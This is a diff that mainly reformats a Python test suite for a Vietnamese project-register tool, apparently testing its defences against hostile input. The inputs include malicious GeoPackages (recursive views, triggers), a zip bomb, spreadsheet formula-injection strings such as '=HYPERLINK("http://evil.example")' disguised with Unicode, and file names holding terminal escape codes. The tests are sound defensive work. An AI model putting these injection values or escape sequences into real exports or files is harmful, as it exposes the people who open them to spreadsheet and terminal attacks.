-def test_paths_that_cannot_be_looked_at(label: str, locate: Locate, message: str, make_register: MakeRegister,
-                                        tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
-                                        capsys: pytest.CaptureFixture[str]) -> None:
+def test_paths_that_cannot_be_looked_at(
+    label: str,
+    locate: Locate,
+    message: str,
+    make_register: MakeRegister,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
     reg, geo = make_register()
     reg, geo, named = locate(reg, geo, tmp_path, monkeypatch)
     problems = validate(reg, geo)
@@ -1009,8 +1796,13 @@ def test_unlookable_paths_in_a_real_process(make_register: MakeRegister, tmp_pat
     """``python -m portfolio list``: exit 1 and the problem line, no traceback."""
     reg, _ = make_register()
     for args in (["--geodata", str(reg)], ["--register", str(tmp_path / ("a" * 5000 + ".csv"))]):
-        result = subprocess.run([sys.executable, "-m", "portfolio", "list", *args], capture_output=True,
-                                text=True, cwd=ROOT, timeout=300)
+        result = subprocess.run(
+            [sys.executable, "-m", "portfolio", "list", *args],
+            capture_output=True,
+            text=True,
+            cwd=ROOT,
+            timeout=300,
+        )
         assert result.returncode == 1, result.stderr
         assert "Traceback" not in result.stderr and result.stderr.splitlines()[0].endswith("[unreadable]")
 
@@ -1018,20 +1810,42 @@ def test_unlookable_paths_in_a_real_process(make_register: MakeRegister, tmp_pat
 # --- hostile uploads (issue 11): refused fast, in a worker; the server's memory stays small --------
 
 HOSTILE_UPLOADS: list[tuple[str, Callable[[Path], Path], str]] = [
-    ("gpkg-view-recursive-cte", lambda d: hostile.gpkg_with_view(d / "forever.gpkg", hostile.FOREVER_VIEW),
-     "unsafe_geopackage"),
-    ("gpkg-view-gigabytes", lambda d: hostile.gpkg_with_view(d / "gigabytes.gpkg", hostile.GIGABYTES_VIEW),
-     "unsafe_geopackage"),
-    ("gpkg-own-trigger", lambda d: hostile.gpkg_with_sql(
-        d / "trigger.gpkg", "CREATE TRIGGER t AFTER INSERT ON base BEGIN SELECT 1; END"),
-     "unsafe_geopackage"),
-    ("gpkg-virtual-table", lambda d: hostile.gpkg_with_sql(
-        d / "virtual.gpkg", "CREATE VIRTUAL TABLE words USING fts5(w)"), "unsafe_geopackage"),
-    ("gpkg-layer-not-a-table", lambda d: hostile.gpkg_with_sql(
-        d / "ghost.gpkg", "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) "
-                          "VALUES ('ghost', 'features', 'ghost', 4326)"), "unsafe_geopackage"),
-    ("geojson-million-points", lambda d: hostile.million_points_geojson(d / "points.geojson"),
-     "too_many_vertices"),
+    (
+        "gpkg-view-recursive-cte",
+        lambda d: hostile.gpkg_with_view(d / "forever.gpkg", hostile.FOREVER_VIEW),
+        "unsafe_geopackage",
+    ),
+    (
+        "gpkg-view-gigabytes",
+        lambda d: hostile.gpkg_with_view(d / "gigabytes.gpkg", hostile.GIGABYTES_VIEW),
+        "unsafe_geopackage",
+    ),
+    (
+        "gpkg-own-trigger",
+        lambda d: hostile.gpkg_with_sql(
+            d / "trigger.gpkg", "CREATE TRIGGER t AFTER INSERT ON base BEGIN SELECT 1; END"
+        ),
+        "unsafe_geopackage",
+    ),
+    (
+        "gpkg-virtual-table",
+        lambda d: hostile.gpkg_with_sql(d / "virtual.gpkg", "CREATE VIRTUAL TABLE words USING fts5(w)"),
+        "unsafe_geopackage",
+    ),
+    (
+        "gpkg-layer-not-a-table",
+        lambda d: hostile.gpkg_with_sql(
+            d / "ghost.gpkg",
+            "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) "
+            "VALUES ('ghost', 'features', 'ghost', 4326)",
+        ),
+        "unsafe_geopackage",
+    ),
+    (
+        "geojson-million-points",
+        lambda d: hostile.million_points_geojson(d / "points.geojson"),
+        "too_many_vertices",
+    ),
     ("kml-600000-vertices", lambda d: hostile.many_points_kml(d / "line.kml"), "too_many_vertices"),
     ("zip-bomb-600-mb", lambda d: hostile.zip_bomb(d / "bomb.zip"), "zip_bomb"),
 ]
@@ -1053,13 +1867,16 @@ def test_hostile_uploads_are_refused_fast_and_the_server_stays_small(hostile_fil
         assert result.rule == rule, (label, result)
         assert result.seconds < 30, (label, result.seconds)
     assert after - before < 250 * 2**20, (before, after)
-    print(f"\nhostile uploads: {[(r.name, r.rule, round(r.seconds, 2)) for r in results]}; "
-          f"server peak RSS {before / 2**20:.0f} MiB after imports, {after / 2**20:.0f} MiB after all")
+    print(
+        f"\nhostile uploads: {[(r.name, r.rule, round(r.seconds, 2)) for r in results]}; "
+        f"server peak RSS {before / 2**20:.0f} MiB after imports, {after / 2**20:.0f} MiB after all"
+    )
 
 
 @pytest.mark.parametrize(("label", "make", "rule"), HOSTILE_UPLOADS, ids=[u[0] for u in HOSTILE_UPLOADS])
-def test_hostile_upload_message(label: str, make: Callable[[Path], Path], rule: str,
-                                hostile_files: dict[str, Path]) -> None:
+def test_hostile_upload_message(
+    label: str, make: Callable[[Path], Path], rule: str, hostile_files: dict[str, Path]
+) -> None:
     """The one-line message names the file and says what is wrong, in both languages."""
     from portfolio import i18n
 
@@ -1073,13 +1890,22 @@ def test_hostile_upload_message(label: str, make: Callable[[Path], Path], rule: 
     assert vi.startswith(f"{path.name}: ") and vi != f"{path.name}: {problem.message}" and detail
 
 
-@pytest.mark.parametrize(("select", "limits", "limit"), [
-    (hostile.FOREVER_VIEW, bounded.Limits(wall_seconds=60, cpu_seconds=3), "cpu"),
-    (hostile.FOREVER_VIEW, bounded.Limits(wall_seconds=3, cpu_seconds=60), "time"),
-    (hostile.GIGABYTES_VIEW, bounded.Limits(wall_seconds=120, cpu_seconds=60), "memory"),  # 1 GiB, as used
-], ids=["cpu", "time", "memory"])
-def test_the_worker_limits_stop_gdal_running_a_hostile_view(select: str, limits: bounded.Limits, limit: str,
-                                                             tmp_path: Path) -> None:
+@pytest.mark.parametrize(
+    ("select", "limits", "limit"),
+    [
+        (hostile.FOREVER_VIEW, bounded.Limits(wall_seconds=60, cpu_seconds=3), "cpu"),
+        (hostile.FOREVER_VIEW, bounded.Limits(wall_seconds=3, cpu_seconds=60), "time"),
+        (
+            hostile.GIGABYTES_VIEW,
+            bounded.Limits(wall_seconds=120, cpu_seconds=60),
+            "memory",
+        ),  # 1 GiB, as used
+    ],
+    ids=["cpu", "time", "memory"],
+)
+def test_the_worker_limits_stop_gdal_running_a_hostile_view(
+    select: str, limits: bounded.Limits, limit: str, tmp_path: Path
+) -> None:
     """The backstop behind the schema check: GDAL itself, given the view, in a worker, is stopped by
     the CPU, wall-time or memory limit, and the caller hears which."""
     import pyogrio
@@ -1114,16 +1940,19 @@ def test_the_view_keeps_only_the_geometry(tmp_path: Path) -> None:
     from portfolio import upload
 
     ring = [(105.6 + 0.01 * math.cos(a / 100), 10.1 + 0.01 * math.sin(a / 100)) for a in range(629)]
-    frame = gpd.GeoDataFrame({"name": ["x" * 5000], "note": ["y"]},
-                             geometry=[shapely.Polygon(ring)], crs="EPSG:4326")
+    frame = gpd.GeoDataFrame(
+        {"name": ["x" * 5000], "note": ["y"]}, geometry=[shapely.Polygon(ring)], crs="EPSG:4326"
+    )
     frame.to_file(tmp_path / "zone.geojson", driver="GeoJSON")
     data = (tmp_path / "zone.geojson").read_bytes()
     full = read_upload("zone.geojson", data)
     view = upload.read_upload_for_view("zone.geojson", data)
     assert list(view.columns) == ["geometry"] and "name" in full.columns
     assert view.attrs["upload_format"] == "GeoJSON"
-    assert shapely.get_num_coordinates(view.geometry.iloc[0]) < shapely.get_num_coordinates(
-        full.geometry.iloc[0]) / 4  # a 1 m tolerance on a 1.1 km circle of 629 points
+    assert (
+        shapely.get_num_coordinates(view.geometry.iloc[0])
+        < shapely.get_num_coordinates(full.geometry.iloc[0]) / 4
+    )  # a 1 m tolerance on a 1.1 km circle of 629 points
     assert view.geometry.iloc[0].hausdorff_distance(full.geometry.iloc[0]) <= upload.VIEW_TOLERANCE
 
 
@@ -1139,10 +1968,24 @@ def test_one_upload_limit_for_the_library_and_the_uploader() -> None:
 
 # --- formula cells (issue 11): one rule, shared by validation and the CSV export --------------------
 
-FORMULAS = ["=1+1", " =1+1", "\u00a0=HYPERLINK(\"http://evil.example\")", "\u2003+1+1", "\u200b@SUM(A1)",
-            "＝HYPERLINK(\"http://evil.example\")", "＋84 292 3820", "－1+1", "＠SUM(A1:A9)", "\tTab", "\rCR",
-            "-5 km", "Xem thêm; =HYPERLINK(\"http://evil.example\")", "Ninh Kiều,=1+1", "a ;\u00a0＝1",
-            "a;=1;=2"]
+FORMULAS = [
+    "=1+1",
+    " =1+1",
+    '\u00a0=HYPERLINK("http://evil.example")',
+    "\u2003+1+1",
+    "\u200b@SUM(A1)",
+    '＝HYPERLINK("http://evil.example")',
+    "＋84 292 3820",
+    "－1+1",
+    "＠SUM(A1:A9)",
+    "\tTab",
+    "\rCR",
+    "-5 km",
+    'Xem thêm; =HYPERLINK("http://evil.example")',
+    "Ninh Kiều,=1+1",
+    "a ;\u00a0＝1",
+    "a;=1;=2",
+]
 NOT_FORMULAS = ["-5", "+84", "1,5", " -5", "1 = 1", "a; b = c", "Đường tỉnh 923", "x=y", "a; +1", "e-mail"]
 
 
@@ -1188,6 +2031,7 @@ def test_csv_export_neutralises_what_validation_refuses(make_register: MakeRegis
 
 # --- signals in the middle of an export (issue 11): real processes, a large synthetic register -----
 
+
 def _temporaries(folder: Path) -> list[str]:
     return sorted(p.name for p in folder.iterdir() if p.name.startswith(".portfolio-tmp-"))
 
@@ -1205,9 +2049,26 @@ def large_register(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path
 
 def _export_until_writing(register: Path, geodata: Path, fmt: str, output: Path) -> subprocess.Popen[str]:
     """Start ``portfolio export`` and return once its temporary file or folder is beside ``output``."""
-    proc = subprocess.Popen([sys.executable, "-m", "portfolio", "export", "--register", str(register),
-                             "--geodata", str(geodata), "-f", fmt, "-o", str(output)],
-                            cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    proc = subprocess.Popen(
+        [
+            sys.executable,
+            "-m",
+            "portfolio",
+            "export",
+            "--register",
+            str(register),
+            "--geodata",
+            str(geodata),
+            "-f",
+            fmt,
+            "-o",
+            str(output),
+        ],
+        cwd=ROOT,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
     deadline = time.monotonic() + 300
     while not _temporaries(output.parent):
         if proc.poll() is not None or time.monotonic() > deadline:
@@ -1217,12 +2078,19 @@ def _export_until_writing(register: Path, geodata: Path, fmt: str, output: Path)
     return proc
 
 
-@pytest.mark.parametrize(("fmt", "name", "after"), [
-    ("shp", "out.zip", 0), ("shp", "out.zip", 1.0), ("geojson", "out.geojson", 0.3), ("csv", "out.csv", 0),
-], ids=["shp-at-once", "shp-later", "geojson", "csv"])
-def test_sigterm_during_an_export_cleans_up_like_ctrl_c(fmt: str, name: str, after: float,
-                                                        large_register: tuple[Path, Path],
-                                                        tmp_path: Path) -> None:
+@pytest.mark.parametrize(
+    ("fmt", "name", "after"),
+    [
+        ("shp", "out.zip", 0),
+        ("shp", "out.zip", 1.0),
+        ("geojson", "out.geojson", 0.05),
+        ("csv", "out.csv", 0),
+    ],
+    ids=["shp-at-once", "shp-later", "geojson", "csv"],
+)
+def test_sigterm_during_an_export_cleans_up_like_ctrl_c(
+    fmt: str, name: str, after: float, large_register: tuple[Path, Path], tmp_path: Path
+) -> None:
     """SIGTERM as soon as the temporary file exists, or ``after`` seconds into the write."""
     output = tmp_path / name
     output.write_bytes(b"the previous export")
@@ -1239,9 +2107,9 @@ def test_sigterm_during_an_export_cleans_up_like_ctrl_c(fmt: str, name: str, aft
 
 
 @pytest.mark.parametrize(("fmt", "name"), [("shp", "out.zip"), ("geojson", "out.geojson")])
-def test_what_a_sigkill_leaves_is_removed_by_the_next_export(fmt: str, name: str,
-                                                            large_register: tuple[Path, Path],
-                                                            tmp_path: Path) -> None:
+def test_what_a_sigkill_leaves_is_removed_by_the_next_export(
+    fmt: str, name: str, large_register: tuple[Path, Path], tmp_path: Path
+) -> None:
     output = tmp_path / name
     proc = _export_until_writing(*large_register, fmt, output)
     proc.kill()
@@ -1250,10 +2118,28 @@ def test_what_a_sigkill_leaves_is_removed_by_the_next_export(fmt: str, name: str
     assert left and all(n.startswith(f".portfolio-tmp-{proc.pid}-") for n in left), left
     # The next run (a quick one: the search keeps no project) removes them and says so.
     register, geodata = large_register
-    result = subprocess.run([sys.executable, "-m", "portfolio", "export", "--register", str(register),
-                             "--geodata", str(geodata), "-f", fmt, "-o", str(output),
-                             "--search", "no such project at all"],
-                            cwd=ROOT, capture_output=True, text=True, timeout=300)
+    result = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "portfolio",
+            "export",
+            "--register",
+            str(register),
+            "--geodata",
+            str(geodata),
+            "-f",
+            fmt,
+            "-o",
+            str(output),
+            "--search",
+            "no such project at all",
+        ],
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+        timeout=300,
+    )
     assert result.returncode == 0, result.stderr
     for entry in left:
         assert f"removed {tmp_path / entry} (" in result.stderr and f"process {proc.pid}" in result.stderr
@@ -1279,6 +2165,7 @@ def test_a_live_process_s_temporary_file_is_not_removed(tmp_path: Path) -> None:
 
 # --- inputs that are not regular files, and control characters in names (issue 11) ----------------
 
+
 def _fifo(path: Path) -> None:
     path.unlink(missing_ok=True)
     os.mkfifo(path)
@@ -1291,15 +2178,20 @@ def _socket(path: Path) -> socket.socket:
     return sock
 
 
-@pytest.mark.parametrize(("label", "which", "kind"), [
-    ("register-fifo", "register", "a named pipe (fifo)"),
-    ("geodata-fifo", "projects.geojson", "a named pipe (fifo)"),
-    ("boundary-fifo", "city_boundary.geojson", "a named pipe (fifo)"),
-    ("register-socket", "register", "a socket"),
-    ("register-device", "/dev/zero", "a character device"),
-], ids=lambda v: v if isinstance(v, str) and "-" in v else "")
-def test_inputs_that_are_not_regular_files_are_refused(label: str, which: str, kind: str,
-                                                       make_register: MakeRegister) -> None:
+@pytest.mark.parametrize(
+    ("label", "which", "kind"),
+    [
+        ("register-fifo", "register", "a named pipe (fifo)"),
+        ("geodata-fifo", "projects.geojson", "a named pipe (fifo)"),
+        ("boundary-fifo", "city_boundary.geojson", "a named pipe (fifo)"),
+        ("register-socket", "register", "a socket"),
+        ("register-device", "/dev/zero", "a character device"),
+    ],
+    ids=lambda v: v if isinstance(v, str) and "-" in v else "",
+)
+def test_inputs_that_are_not_regular_files_are_refused(
+    label: str, which: str, kind: str, make_register: MakeRegister
+) -> None:
     """Before issue 11 a fifo hung the CLI forever (the open waited for a writer); /dev/zero was read."""
     reg, geo = make_register()
     sockets = []
@@ -1312,13 +2204,21 @@ def test_inputs_that_are_not_regular_files_are_refused(label: str, which: str, k
         _fifo(named)
     try:
         problems = validate(reg, geo)
-        assert any(p.file == str(named) and p.rule == "unreadable"
-                   and p.message.endswith(f"path is {kind}, not a regular file") for p in problems), problems
+        assert any(
+            p.file == str(named)
+            and p.rule == "unreadable"
+            and p.message.endswith(f"path is {kind}, not a regular file")
+            for p in problems
+        ), problems
         with pytest.raises(RegisterError):
             load(reg, geo)
-        result = subprocess.run([sys.executable, "-m", "portfolio", "validate", "--register", str(reg),
-                                 "--geodata", str(geo)],
-                                cwd=ROOT, capture_output=True, text=True, timeout=120)
+        result = subprocess.run(
+            [sys.executable, "-m", "portfolio", "validate", "--register", str(reg), "--geodata", str(geo)],
+            cwd=ROOT,
+            capture_output=True,
+            text=True,
+            timeout=120,
+        )
         assert result.returncode == 1 and f"{named}: " in result.stderr and kind in result.stderr
         assert "Traceback" not in result.stderr
     finally:
@@ -1326,8 +2226,9 @@ def test_inputs_that_are_not_regular_files_are_refused(label: str, which: str, k
             sock.close()
 
 
-def test_a_fifo_swapped_in_after_the_check_does_not_hang(tmp_path: Path,
-                                                         monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_fifo_swapped_in_after_the_check_does_not_hang(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """The race between the stat and the open: the open does not wait (O_NONBLOCK) and the file it
     opened is checked again (fstat)."""
     import threading
@@ -1340,8 +2241,11 @@ def test_a_fifo_swapped_in_after_the_check_does_not_hang(tmp_path: Path,
     fifo = tmp_path / "swapped.csv"
     _fifo(fifo)
     real_stat = Path.stat
-    monkeypatch.setattr(Path, "stat",  # the check sees a regular file; the open finds the fifo
-                        lambda self, *a, **k: real_stat(regular if self == fifo else self, *a, **k))
+    monkeypatch.setattr(
+        Path,
+        "stat",  # the check sees a regular file; the open finds the fifo
+        lambda self, *a, **k: real_stat(regular if self == fifo else self, *a, **k),
+    )
     outcome: list[BaseException] = []
 
     def read() -> None:
@@ -1358,20 +2262,42 @@ def test_a_fifo_swapped_in_after_the_check_does_not_hang(tmp_path: Path,
     assert isinstance(error, InputError) and "a named pipe (fifo), not a regular file" in str(error)
 
 
-@pytest.mark.parametrize(("name", "shown"), [
-    ("out\n.geojson", "out\\n.geojson"), ("\x1b]0;pwned\x07.geojson", "\\x1b]0;pwned\\x07.geojson"),
-    ("\x1b[2Jclear.geojson", "\\x1b[2Jclear.geojson"), ("tab\t.geojson", "tab\\t.geojson"),
-    ("rtl\u202egeojson.exe.geojson", "rtl\\u202egeojson.exe.geojson"),
-])
-def test_an_output_name_with_a_control_character_is_refused(name: str, shown: str,
-                                                            make_register: MakeRegister,
-                                                            tmp_path: Path) -> None:
+@pytest.mark.parametrize(
+    ("name", "shown"),
+    [
+        ("out\n.geojson", "out\\n.geojson"),
+        ("\x1b]0;pwned\x07.geojson", "\\x1b]0;pwned\\x07.geojson"),
+        ("\x1b[2Jclear.geojson", "\\x1b[2Jclear.geojson"),
+        ("tab\t.geojson", "tab\\t.geojson"),
+        ("rtl\u202egeojson.exe.geojson", "rtl\\u202egeojson.exe.geojson"),
+    ],
+)
+def test_an_output_name_with_a_control_character_is_refused(
+    name: str, shown: str, make_register: MakeRegister, tmp_path: Path
+) -> None:
     reg, geo = make_register()
     out = tmp_path / "out"
     out.mkdir()
-    result = subprocess.run([sys.executable, "-m", "portfolio", "export", "--register", str(reg), "--geodata",
-                             str(geo), "-f", "geojson", "-o", str(out / name)], cwd=ROOT, capture_output=True,
-                            text=True, timeout=120)
+    result = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "portfolio",
+            "export",
+            "--register",
+            str(reg),
+            "--geodata",
+            str(geo),
+            "-f",
+            "geojson",
+            "-o",
+            str(out / name),
+        ],
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     assert result.returncode == 2, result.stderr
     assert f"{out}/{shown}: the name holds the control character" in result.stderr
     assert "\x1b" not in result.stderr and "\x07" not in result.stderr and "\u202e" not in result.stderr
@@ -1382,11 +2308,14 @@ def test_no_message_prints_raw_terminal_codes(make_register: MakeRegister, tmp_p
     """A path holding escape sequences is shown with them written visibly, in every message."""
     reg, geo = make_register()
     evil = tmp_path / "\x1b[31mred\x1b]0;title\x07\r.csv"
-    for args in (["validate", "--register", str(evil), "--geodata", str(geo)],
-                 ["list", "--register", str(evil), "--geodata", str(geo)],
-                 ["list", "--register", str(reg), "--geodata", str(geo), "--status", "\x1b[2J"]):
-        result = subprocess.run([sys.executable, "-m", "portfolio", *args], cwd=ROOT, capture_output=True,
-                                text=True, timeout=120)
+    for args in (
+        ["validate", "--register", str(evil), "--geodata", str(geo)],
+        ["list", "--register", str(evil), "--geodata", str(geo)],
+        ["list", "--register", str(reg), "--geodata", str(geo), "--status", "\x1b[2J"],
+    ):
+        result = subprocess.run(
+            [sys.executable, "-m", "portfolio", *args], cwd=ROOT, capture_output=True, text=True, timeout=120
+        )
         assert result.returncode in (1, 2), result.stderr
         assert not re.search("[\x00-\x08\x0b-\x1f\x7f]", result.stderr + result.stdout), result.stderr
         assert "\\x1b[" in result.stderr
@@ -1412,16 +2341,37 @@ def _unescape(markdown: str) -> str:
     return re.sub(r"\\(.)", r"\1", markdown)
 
 
-@pytest.mark.parametrize(("params", "vi", "en"), [
-    ({"lang": "fr"}, "ngôn ngữ (lang): không có giá trị 'fr'", "unknown lang 'fr'; allowed values: vi, en"),
-    ({"view": "map"}, "chế độ xem (view): không có giá trị 'map'",
-     "unknown view 'map'; allowed values: table, timeline, investors, export"),
-    ({"sel": "no-such-id"}, "dự án được chọn (sel): không có dự án nào mã 'no-such-id'",
-     "sel: no project has the id 'no-such-id'"),
-    ({"links": "yes"}, "đường nối (links): không có giá trị 'yes'",
-     "unknown links 'yes'; allowed values: 0, 1"),
-    ({"view": ["timeline", "export"]}, "chế độ xem (view): có 2 lần", "view: given 2 times; give it once"),
-], ids=["lang", "view", "sel", "links", "view-twice"])
+@pytest.mark.parametrize(
+    ("params", "vi", "en"),
+    [
+        (
+            {"lang": "fr"},
+            "ngôn ngữ (lang): không có giá trị 'fr'",
+            "unknown lang 'fr'; allowed values: vi, en",
+        ),
+        (
+            {"view": "map"},
+            "chế độ xem (view): không có giá trị 'map'",
+            "unknown view 'map'; allowed values: table, timeline, investors, export",
+        ),
+        (
+            {"sel": "no-such-id"},
+            "dự án được chọn (sel): không có dự án nào mã 'no-such-id'",
+            "sel: no project has the id 'no-such-id'",
+        ),
+        (
+            {"links": "yes"},
+            "đường nối (links): không có giá trị 'yes'",
+            "unknown links 'yes'; allowed values: 0, 1",
+        ),
+        (
+            {"view": ["timeline", "export"]},
+            "chế độ xem (view): có 2 lần",
+            "view: given 2 times; give it once",
+        ),
+    ],
+    ids=["lang", "view", "sel", "links", "view-twice"],
+)
 @pytest.mark.usefixtures("app_env")
 def test_a_wrong_page_parameter_is_dropped_with_a_warning(params: dict[str, Any], vi: str, en: str) -> None:
     """README: "A wrong value in a hand-written address is dropped with a warning naming it, in the
@@ -1503,14 +2453,17 @@ def test_the_app_refuses_a_hostile_geopackage_in_the_page_language(tmp_path: Pat
     assert time.monotonic() - start < 30 and not at.exception
     (error,) = at.error
     assert _unescape(error.value).startswith(
-        "Không đọc được tệp: forever.gpkg: GeoPackage chứa view, trigger")
+        "Không đọc được tệp: forever.gpkg: GeoPackage chứa view, trigger"
+    )
     assert any("holds a view ('evil')" in _unescape(c.value) for c in at.caption)
     assert counter(at).startswith("8 ")
     assert at.session_state["_upload_cache"][1] is None
 
 
-@pytest.mark.parametrize(("before", "value"), [("", "=1+1"), ("Xem thêm;", "=1+1"), ("a,", "＝1"),
-                                               ("", "\u00a0=HYPERLINK(\"http://evil.example\")")])
+@pytest.mark.parametrize(
+    ("before", "value"),
+    [("", "=1+1"), ("Xem thêm;", "=1+1"), ("a,", "＝1"), ("", '\u00a0=HYPERLINK("http://evil.example")')],
+)
 def test_a_formula_cell_after_an_empty_or_separator_ending_cell_is_found(before: str, value: str) -> None:
     """The column is searched joined by line breaks: a match must not start in the cell above (whose
     whitespace or final ';' would swallow the line break) and so hide the formula below it."""
